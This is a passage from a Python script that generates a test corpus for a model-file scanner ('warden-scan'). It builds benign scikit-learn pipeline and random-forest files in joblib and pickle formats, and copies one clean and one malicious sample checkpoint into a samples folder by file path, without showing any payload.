        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler
        from sklearn.ensemble import RandomForestClassifier
    except ImportError:
        return None
    rng = np.random.RandomState(0)
    X = rng.randn(40, 3)
    y = (X[:, 0] > 0).astype(int)
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(X, y)
    forest = RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, y)
    return pipe, forest


def _joblib_bytes(obj, compress):
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


@gen("benign/sklearn/pipeline.joblib")
def _():
    """joblib.dump of a StandardScaler+LogisticRegression pipeline (NumpyArrayWrapper with raw array bytes in the stream). Scanned with --profile sklearn."""
    m = _sklearn_models()
    return None if m is None else _joblib_bytes(m[0], 0)


@gen("benign/sklearn/forest_compressed.joblib")
def _():
    """joblib.dump(..., compress=3) of a small random forest (zlib stream; structured dtype arrays). Scanned with --profile sklearn."""
    m = _sklearn_models()
    return None if m is None else _joblib_bytes(m[1], 3)


@gen("benign/sklearn/pipeline.pkl")
def _():
    """pickle.dumps of the same pipeline (plain pickle, no joblib wrappers). Scanned with --profile sklearn."""
    m = _sklearn_models()
    return None if m is None else pickle.dumps(m[0], protocol=4)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--list", action="store_true", help="print what each file is")
    a = ap.parse_args()
    lines = ["# warden-scan corpus", "", "Generated by `make_corpus.py` (do not edit by hand).", ""]
    for path, fn in GENERATORS:
        doc = " ".join((fn.__doc__ or "").split())
        lines.append(f"- `{path}`: {doc}")
        if a.list:
            print(f"{path}: {doc}")
            continue
        data = fn()
        target = HERE / path
        if data is None:
            print(f"skip {path} (numpy/scikit-learn/joblib not installed; keeping the committed file)")
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    if not a.list:
        (HERE / "INDEX.md").write_text("\n".join(lines) + "\n")
        # The README's first command scans samples/: one clean and one malicious checkpoint.
        samples = HERE.parents[3] / "samples"
        samples.mkdir(exist_ok=True)
        for src, dst in [
            ("benign/torch/checkpoint_full.pt", "clean_checkpoint.pt"),
            ("malicious/torch/reduce_in_data_pkl.pt", "suspicious_checkpoint.pt"),
        ]:
            (samples / dst).write_bytes((HERE / src).read_bytes())
        print(f"wrote {len(GENERATORS)} corpus entries under {HERE}")


if __name__ == "__main__":
    main()
